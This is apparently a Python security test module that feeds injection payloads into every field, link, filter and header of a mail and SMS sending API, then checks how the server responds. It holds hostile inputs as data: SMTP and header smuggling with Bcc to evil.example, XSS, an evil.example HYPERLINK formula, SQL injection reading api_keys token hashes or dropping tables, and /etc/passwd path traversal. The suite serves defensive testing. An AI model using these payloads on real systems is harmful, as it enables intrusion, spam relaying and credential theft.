"""An attacker puts text that means something to a mail server, a gateway, a browser, a terminal, a database or a
spreadsheet into every text of every body, and what then arrives is judged in `arrivals.py`."""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from typing import Any

import requests

from tests.attack.description import Operation, Path, changed
from tests.attack.families import arrivals
from tests.attack.families.isolation import MANY, items, rows_of_the_victim, seen_nothing, valid_body
from tests.attack.stage import SENDS, Stage
from tests.attack.tally import Case, case

EVIL = "injected@evil.example"
SMTP = f"MAIL FROM:<{EVIL}>\r\nRCPT TO:<{EVIL}>\r\nDATA\r\nSubject: injected\r\n\r\ninjected\r\n.\r\nQUIT\r\n"
PAYLOADS = {
    "end of the mail": f"x\r\n.\r\n{SMTP}",
    "header field": f"x\r\nX-Injected: yes\r\nBcc: {EVIL}\r\n\r\ninjected",
    "parameters of Kannel": "x&to=61499999999&text=injected&dlr-url=http://evil.example/#y+%26to=61499999999%00;z",
    "terminal": "x\x1b]0;owned\x07\x9b2J\u202eX-Injected\u2066",
    "script": "x\"'><script>alert(1)</script><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "command of SMTP": f"x>\r\nRCPT TO:<{EVIL}>\r\n",
    "LF alone": f"x\n.\n{SMTP}\nX-Injected: yes",
    "CR alone": f"x\r.\r{SMTP}\rX-Injected: yes",
    "other line ends": "x\x0bX-Injected: yes\x0cX-Injected: yes\x85X-Injected: yes\u2028X-Injected: yes\u2029",
    "NUL": "x\x00X-Injected: yes",
    "encoded word": f"=?utf-8?q?x=0D=0AX-Injected:_yes=0D=0ABcc:_{EVIL}?=",
    "more addresses": f'x@att4ck3r.example>, <{EVIL}>, "x',
    "address of a route": f"@evil.example:{EVIL}",
    "MIME part": 'x"; boundary="y\r\n--y\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--y--',
    "PDU": "x\x00\x00\x00\x10\x00\x00\x00\x06\x00\x00\x00\x00\x00\x00\x00\x09\x1b@",
    "template": "{{7*7}}${7*7}<%= 7*7 %>{% for x in y %}%%first_name%%%%unsubscribe_link%%{{config}}#{7*7}",
    "SQL": "x' OR '1'='1'; DROP TABLE lists; --\" %_\\",
    "line of a log": '\n{"level":"error","message":"injected"}\n',
    "lone surrogate": "x\ud800\udc00\udfff",
    "format string": "%s%s%n{0.__class__}{x!r}",
    "path": "../../../../etc/passwd\\..\\x\x00.pdf",
}
"""What it means to somebody -> the text."""
SHORT = 6
PERSONAL: tuple[Path, ...] = (("recipients", 0, "first_name"), ("recipients", 0, "note"), ("recipients", 0, "made_up"))
"""Values of a recipient, which stand in subject and bodies."""
WILDCARDS = "%%first_name%% %%note%% %%made_up%%"
CONTACT: tuple[Path, ...] = (("first_name",), ("note",), ("email",), ("mobile",))


def attack(on: Stage) -> Iterator[Case]:
    """Every payload in every place; then what arrived everywhere."""
    on.await_rest()
    before = arrivals.Before.of(on)
    rows = rows_of_the_victim(on)
    yield from texts(on)
    yield from links(on)
    yield from filters(on)
    yield from headers(on)
    on.await_rest()
    yield from arrivals.judge(on, before)
    after = rows_of_the_victim(on)
    for name, rows_before in rows.items():
        yield case("rows of the victim afterwards", rows_before == after[name], f"{name} has changed")


def payloads(on: Stage) -> list[tuple[str, str]]:
    """All of them, or the first few."""
    return list(PAYLOADS.items())[: SHORT if on.short else None]


def texts(on: Stage) -> Iterator[Case]:
    """Every text of every body; of a send in a mail and in texts over each gateway."""
    numbers = itertools.count(1)
    for operation in on.operations:
        if not operation.texts:
            continue
        for kind, places in variants(operation):
            plain = post(on, operation, filled(on, operation, kind, next(numbers)))
            assert plain.status_code < 300, f"an attack by what is refused anyway proves nothing: {plain.text}"
            for place, (name, payload) in itertools.product(places, payloads(on)):
                body = changed(filled(on, operation, kind, next(numbers)), place, payload)
                if place in (("group_id",), ("type",)):
                    continue
                answer = post(on, operation, body)
                held = answer.status_code < 500
                yield case("texts of bodies", held, f"{name} in {place} of {operation.name}: {answer.text}")


def variants(operation: Operation) -> list[tuple[str, tuple[Path, ...]]]:
    """The kinds of bodies of an operation, with the places of their texts."""
    if operation.path == SENDS:
        places = operation.texts + PERSONAL
        text_places = tuple(place for place in places if "attachments" not in place)
        return [("email", places), ("kannel", text_places), ("smpp", text_places)]
    if operation.path == f"{SENDS}/cancel":
        return [("uuids", operation.texts)]
    if operation.path == "/v1/suppressions":
        many = tuple(place for place in operation.texts if place[:1] == MANY)
        return [("one", tuple(place for place in operation.texts if place not in many)), ("many", many)]
    return [("", operation.texts + (CONTACT if "/contacts" in operation.path and operation.method != "DELETE" else ()))]


def filled(on: Stage, operation: Operation, kind: str, number: int) -> Any:
    """A valid body for a recipient of its own."""
    if operation.path.endswith("/contacts") and operation.method == "POST":
        return {"contacts": [{"email": f"c{number}@example.org"}]}
    if kind == "uuids":
        return {"uuids": ["00000000-0000-4000-8000-000000000000"]}
    if operation.path != SENDS:
        return valid_body(on, operation, MANY if kind == "many" else ())
    if kind == "email":
        attachment = {"name": "a.txt", "type": "text/plain", "content": "MTAwIEVVUg=="}
        return on.attacker.send(
            group_name="injection",
            subject=f"Subject {WILDCARDS}",
            body_text=f"Text {WILDCARDS} %%unsubscribe_link%%",
            body_html=f'<p>HTML {WILDCARDS} <a href="https://att4ck3r.example/?a=%%first_name%%">%%note%%</a></p>',
            attachments=[attachment],
            recipients=[
                {
                    "email": f"p{number}@example.org",
                    "first_name": "Eve",
                    "attachments": [{**attachment, "name": "b.txt"}],
                }
            ],
        )
    transport = {"transport": "kannel"} if kind == "kannel" else {}
    return on.attacker.text(
        group_name="injected texts",
        body_text=f"Text {WILDCARDS} Reply STOP",
        recipients=[{"mobile": f"614{number + 12_000_000:08d}", "first_name": "Eve"}],
        **transport,
    )


def post(on: Stage, operation: Operation, body: Any) -> requests.Response:
    """The answer to a body with the attacker's ids in the path."""
    path = operation.path.format(**on.attacker.ids)
    return on.ask(operation.method, path, on.attacker.token_for(path), body=body)


def links(on: Stage) -> Iterator[Case]:
    """Links of a mail that would redirect into a header, or into a script."""
    targets = (
        "https://att4ck3r.example/\r\nSet-Cookie: injected=1",
        "https://att4ck3r.example/%0d%0aSet-Cookie:%20injected=1",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "//evil.example/",
        "https://att4ck3r.example\\@evil.example/",
        "vbscript:x",
    )
    for number, target in enumerate(targets):
        html = f'<p><a href="{target}">one</a> <a href="https://att4ck3r.example/?x=%%first_name%%">two</a></p>'
        recipient = {"email": f"link{number}@example.org", "first_name": target}
        body = on.attacker.send(group_name="injection", body_html=html, recipients=[recipient])
        answer = on.ask("POST", SENDS, on.attacker.token, body=body)
        yield case("links", answer.status_code < 500, answer.text)


def filters(on: Stage) -> Iterator[Case]:
    """Every filter of every collection with texts that mean something in SQL."""
    tried = (
        "x' OR '1'='1",
        "%",
        "x\\' UNION SELECT token_hash FROM api_keys --",
        "1) OR (1=1",
        "..",
        "x\x00",
        "\ud800",
    )
    operators = ("",) if on.short else ("", ":in", ":' OR 1=1 --")
    for operation in on.operations:
        names = (*operation.filters, "note", "x'y") if operation.is_collection else ()
        for name, value in itertools.product(names, tried[: 1 if on.short else None]):
            for operator in operators:
                query = {f"{name}{operator}": value.encode("utf-8", "surrogatepass"), "limit": 1000}
                path = operation.path.format(**on.attacker.ids)
                answer = on.ask("GET", path, on.attacker.token_for(path), query=query)
                # A range without ends has every value, and no filter of such a name restricts nothing.
                held = answer.status_code in (200, 400, 403) and (value == ".." or not items(answer))
                yield case("filters", held, f"{operation.name} by {name}{operator}={value!r}: {answer.text[:300]}")
                yield seen_nothing("filters", on, answer, [])


def headers(on: Stage) -> Iterator[Case]:
    """Texts in headers of requests that are stored, logged or repeated."""
    for name in ("Idempotency-Key", "User-Agent", "Traceparent", "Accept-Language", "X-Request-Id", "Content-Type"):
        for value in (b"x\xff\x9b2J", b"x'; DROP TABLE lists; --", b"%0d%0aX-Injected: yes", b"{{7*7}}" * 500):
            body = json.dumps(on.attacker.send(group_name="injection", subject="", recipients=[])).encode()
            sent: dict[str, str | bytes] = {"Authorization": f"Bearer {on.attacker.token}", name: value}
            answer = requests.post(f"{on.base}{SENDS}", data=body, headers=sent, timeout=60)
            held = answer.status_code < 500 and "X-Injected" not in answer.headers
            yield case("headers of requests", held, f"{name}: {value!r}: {answer.text}")
